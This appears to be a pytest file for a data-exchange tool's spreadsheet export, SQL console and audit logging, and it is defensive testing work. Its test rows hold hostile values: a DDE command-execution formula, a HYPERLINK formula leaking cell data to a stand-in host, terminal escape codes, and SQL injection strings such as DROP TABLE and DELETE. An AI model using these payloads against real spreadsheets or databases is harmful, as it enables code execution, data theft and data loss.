"""Exports for spreadsheets (exchange.export, `exchange export`): formula injection neutralised,
values exact, the warehouse untouched; and `exchange sql` / `validate` show hostile values safely."""

from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text
from typer.testing import CliRunner

from exchange import export
from exchange.cli import app
from exchange.errors import ConfigError, TerminalError
from exchange.runner import run_feed
from exchange.warehouse.engine import make_engine
from tests.conftest import write

pytestmark = [pytest.mark.gx]  # not in `make check`: see the Makefile

runner = CliRunner()
FEED = """\
agency: police
feed: residents
description: residents
source: {kind: file, path: r.csv}
target: person@2
mapping: {编号: source_record_id, 姓名: name, 性别: {field: gender, values: {男: M, 女: F}}, 住址: address}
quality: {max_reject_ratio: 1.0}
"""
ROWS = [("P1", "=1+1", "女", '=HYPERLINK("http://x.example/?"&A1,"点击")'),
        ("P2", "+张三", "男", "-1+2"),
        ("P3", "@SUM(A1)", "男", "=cmd|' /C calc'!A0"),
        ("P4", "李四", "女", "北京\x1b[31m红\x1b[0m"),
        ("P5", "[/]", "男", "a\rb"),
        ("P6", "王五", "未知", "-")]  # quarantined: not an allowed gender


@pytest.fixture
def loaded(project: Path, settings, monkeypatch: pytest.MonkeyPatch):
    write(project / "feeds" / "police" / "residents.yaml", FEED)
    buf = io.StringIO()
    csv.writer(buf).writerows([("编号", "姓名", "性别", "住址"), *ROWS])
    write(settings.landing_dir / "r.csv", buf.getvalue())
    out = run_feed("police.residents", settings=settings)
    assert (out.rows_loaded, out.rows_quarantined) == (5, 1)
    monkeypatch.setenv("EXCHANGE_HOME", str(project))
    return settings


def _core(settings) -> dict[str, tuple[str, str]]:
    engine = make_engine(settings.warehouse_url, root=settings.root)
    try:
        with engine.connect() as conn:
            return {r[0]: (r[1], r[2]) for r in conn.execute(text(
                "SELECT source_record_id, name, address FROM core.person"))}
    finally:
        engine.dispose()


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+86", "'+86"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("张三", "张三"), (" =1", " =1"), ("'=1", "'=1"), ("", ""), ("a=b", "a=b")])
def test_neutralise(value: str, expected: str) -> None:
    assert export.neutralise(value) == expected


def test_csv_export_neutralises_text_and_keeps_the_warehouse_verbatim(loaded, tmp_path: Path) -> None:
    before = _core(loaded)
    out = runner.invoke(app, ["export", "core.person", "--out", str(tmp_path / "p.csv")])
    assert out.exit_code == 0, out.output
    assert "exported 5 rows" in out.output
    data = (tmp_path / "p.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and b"\r\n" in data  # UTF-8 BOM for Excel, CRLF
    rows = {r["source_record_id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    assert (rows["P1"]["name"], rows["P1"]["address"]) == ("'=1+1", "'" + ROWS[0][3])
    assert (rows["P2"]["name"], rows["P2"]["address"]) == ("'+张三", "'-1+2")
    assert (rows["P3"]["name"], rows["P3"]["address"]) == ("'@SUM(A1)", "'=cmd|' /C calc'!A0")
    assert (rows["P4"]["name"], rows["P4"]["address"]) == ("李四", "北京\x1b[31m红\x1b[0m")
    assert rows["P5"]["address"] == "a\rb" and rows["P5"]["_source_row"] == "5"
    assert _core(loaded) == before  # only the export is neutralised
    assert before["P1"] == ("=1+1", ROWS[0][3])


def test_xlsx_export_writes_text_as_text_with_the_quote_prefix(loaded, tmp_path: Path) -> None:
    out = runner.invoke(app, ["export", "core.person", "-o", str(tmp_path / "p.xlsx")])
    assert out.exit_code == 0, out.output
    ws = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    header = [c.value for c in ws[1]]
    rows = {r[header.index("source_record_id")].value: r for r in ws.iter_rows(min_row=2)}
    name, address = header.index("name"), header.index("address")
    for rid in ("P1", "P2", "P3"):
        for cell in (rows[rid][name], rows[rid][address]):
            assert cell.data_type == "s" and cell.quotePrefix, (rid, cell.value)
    assert rows["P1"][name].value == "=1+1"  # the value itself is exact: a string cell is never run
    assert not rows["P4"][name].quotePrefix
    # XML cannot carry ESC or a bare CR: Excel's own _xHHHH_ escapes, which Excel reads back as the character
    assert rows["P4"][address].value == "北京_x001B_[31m红_x001B_[0m"
    assert rows["P5"][address].value == "a_x000D_b"
    assert rows["P5"][header.index("_source_row")].value == 5


def test_quarantine_and_queries_export(loaded, tmp_path: Path) -> None:
    out = runner.invoke(app, ["export", "quarantine.person", "-o", str(tmp_path / "q.csv")])
    assert out.exit_code == 0, out.output
    (row,) = csv.DictReader(io.StringIO((tmp_path / "q.csv").read_text(encoding="utf-8-sig"), newline=""))
    assert json.loads(row["original"])["性别"] == "未知" and row["rules"] == "allowed_values"
    query = "SELECT -5 AS n, '-5' AS t, 1.5 AS f, name FROM core.person WHERE source_record_id = 'P2'"
    out = runner.invoke(app, ["export", "--query", query, "-o", str(tmp_path / "x.csv")])
    assert out.exit_code == 0, out.output
    lines = (tmp_path / "x.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines == ["n,t,f,name", "-5,'-5,1.5,'+张三"]  # a number stays a number; text is neutralised


@pytest.mark.parametrize("args", [
    ["export", "core.nope", "-o", "x.csv"],
    ["export", "core.person; DROP TABLE core.person", "-o", "x.csv"],
    ["export", "core.person", "-o", "x.txt"],
    ["export", "--query", "DELETE FROM core.person", "-o", "x.csv"],
    ["export", "core.person", "--query", "SELECT 1", "-o", "x.csv"],
    ["export", "--query", "SELECT * FROM core.nope", "-o", "x.csv"],
    ["export", "core.person"]])
def test_export_refusals_are_clear(loaded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]) -> None:
    monkeypatch.chdir(tmp_path)
    out = runner.invoke(app, args)
    assert out.exit_code == 2, out.output
    assert out.exception is None or isinstance(out.exception, SystemExit)
    assert "Traceback" not in out.output
    assert not list(tmp_path.glob("x.*")) and len(_core(loaded)) == 5


def test_xlsx_limits_fail_instead_of_cutting_values(tmp_path: Path) -> None:
    long = "长" * (export.XLSX_MAX_CELL_CHARS + 1)
    with pytest.raises(TerminalError, match=r"quarantine\.person: row 2, column 'original' holds 32,768 characters"):
        export.write_export(tmp_path / "l.xlsx", ["id", "original"], [["a", "x"], ["b", long]], fmt="xlsx",
                            source="quarantine.person")
    assert not list(tmp_path.iterdir())  # nothing half-written is left
    # the CSV export holds it whole
    result = export.write_export(tmp_path / "l.csv", ["id", "original"], [["b", long]], fmt="csv", source="q")
    assert result.rows == 1 and long in (tmp_path / "l.csv").read_text(encoding="utf-8-sig")
    with pytest.raises(ConfigError, match="cannot export as 'ods'"):
        export.export_format(tmp_path / "x.ods")


def test_xlsx_numbers_and_dates(tmp_path: Path) -> None:
    row = [-5, decimal.Decimal("-1.5"), 12345678901234567, decimal.Decimal("1234567890123.4567"),
           dt.date(1990, 1, 2), float("nan"), True, None]
    export.write_export(tmp_path / "n.xlsx", [f"c{i}" for i in range(len(row))], [row], fmt="xlsx", source="q")
    cells = next(iter(openpyxl.load_workbook(tmp_path / "n.xlsx").active.iter_rows(min_row=2)))
    assert [c.value for c in cells] == [-5, -1.5, "12345678901234567", "1234567890123.4567",
                                        dt.datetime(1990, 1, 2), "nan", True, None]
    assert not any(c.quotePrefix for c in cells)  # numbers are not text: nothing to neutralise


def test_sql_shows_hostile_values_without_interpreting_them(loaded) -> None:
    out = runner.invoke(app, ["sql", "SELECT name, address FROM core.person ORDER BY source_record_id"])
    assert out.exit_code == 0, out.output
    assert "\x1b" not in out.output and "\\x1b[31m" in out.output  # no terminal escape reaches the terminal
    assert "[/]" in out.output and "a\\rb" in out.output  # markup is shown as text, a CR as \r
    out = runner.invoke(app, ["sql", "SELECT printf('%.3000c', 'x') AS long", "--max-chars", "100"])
    assert out.exit_code == 0, out.output
    assert "(+2,900 characters)" in out.output


def test_validate_shows_a_long_value_cut_short(project: Path, settings, tmp_path: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    write(project / "feeds" / "police" / "residents.yaml", FEED.replace("住址: address", "住址: ethnicity"))
    f = write(tmp_path / "v.csv", "编号,姓名,性别,住址\nP1,张三,男," + "长" * 5000 + "\n")
    monkeypatch.setenv("EXCHANGE_HOME", str(project))
    out = runner.invoke(app, ["validate", str(f), "--feed", "police.residents"])
    assert out.exit_code == 1, out.output
    assert "max_length" in out.output and "(+4,800 characters)" in out.output and "长" * 201 not in out.output


def test_every_export_is_on_record(loaded, tmp_path: Path) -> None:
    """Data leaving the warehouse by export is recorded like a profile read: audit.access, channel
    export — who (user, host), why (purpose, case number), what, how many rows; failures too."""
    import getpass


    out = runner.invoke(app, ["export", "core.person", "-o", str(tmp_path / "p.csv"), "--purpose", "低保复核",
                              "--case-number", "MZ-2026-7"])
    assert out.exit_code == 0, out.output
    query = "SELECT name FROM core.person WHERE id_number = '11010519491231002X'"
    assert runner.invoke(app, ["export", "--query", query, "-o", str(tmp_path / "q.xlsx")]).exit_code == 0
    assert runner.invoke(app, ["export", "core.nope", "-o", str(tmp_path / "n.csv")]).exit_code == 2
    assert runner.invoke(app, ["export", "--query", "SELECT * FROM core.nope", "-o",
                               str(tmp_path / "m.csv")]).exit_code == 2
    rows = _access_rows(loaded)
    assert [(r["channel"], r["agency"], r["status"], r["row_count"], r["entity"]) for r in rows] == [
        ("export", "operator", 200, 5, "core.person"), ("export", "operator", 200, 0, "query"),
        ("export", "operator", 400, 0, "core.nope"), ("export", "operator", 400, 0, "query")]
    first = rows[0]
    assert (first["purpose"], first["case_number"], first["what"]) == ("低保复核", "MZ-2026-7",
                                                                       "export core.person to p.csv")
    import os
    import pwd

    assert first["user_id"].startswith(f"{pwd.getpwuid(os.getuid()).pw_name} (uid {os.getuid()})")
    assert first["client"] and first["outcome"] == "ok"
    del getpass
    assert rows[1]["what"] == ("export query to q.xlsx: SELECT name FROM core.person "
                               "WHERE id_number = '110105**********2X'")
    assert rows[2]["outcome"].startswith("failed: export: no table 'core.nope'")
    assert rows[3]["outcome"].startswith("failed: export of query: the query failed: no such table")


def test_operator_reads_are_read_only_and_on_record(loaded: Any, tmp_path: Path, monkeypatch: Any) -> None:
    """``exchange sql`` (and export --query) run one statement on a query-only connection, and the
    OS account comes from the process, not from ``$USER``; the whole query is kept, a comment cannot
    hide it, identifiers masked (SQLite here; tests/security does the same on PostgreSQL)."""

    monkeypatch.setenv("USER", "somebody-else")
    monkeypatch.setenv("LOGNAME", "somebody-else")
    before = _count(loaded, "core.person")
    for attack in ("SELECT 1; DELETE FROM core.person", "WITH x AS (SELECT 1) DELETE FROM core.person",
                   "DELETE FROM core.person", "PRAGMA query_only = OFF"):
        got = runner.invoke(app, ["sql", attack])
        assert got.exit_code == 2, (attack, got.output)
    assert _count(loaded, "core.person") == before
    hidden = "/*" + " padding" * 200 + " */ SELECT name FROM core.person WHERE id_number = '11010519491231002X'"
    assert runner.invoke(app, ["sql", hidden, "--purpose", "核查"]).exit_code == 0
    rows = _access_rows(loaded)
    assert [r["status"] for r in rows] == [400, 400, 400, 400, 200]
    last = rows[-1]
    assert last["channel"] == "sql" and "somebody-else" in last["user_id"] and "(uid " in last["user_id"]
    assert last["detail"] == "SELECT name FROM core.person WHERE id_number = '110105**********2X'"
    assert last["db_role"].startswith("sqlite") and last["purpose"] == "核查"


def _access_rows(settings: Any) -> list[dict[str, Any]]:
    from exchange.access.tables import access

    engine = make_engine(settings.warehouse_url, root=settings.root)
    try:
        with engine.connect() as conn:
            return [dict(r) for r in conn.execute(access.select().order_by(access.c.id)).mappings()]
    finally:
        engine.dispose()


def _count(settings: Any, table: str) -> int:
    from sqlalchemy import text

    engine = make_engine(settings.warehouse_url, root=settings.root)
    try:
        with engine.connect() as conn:
            return conn.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()
    finally:
        engine.dispose()
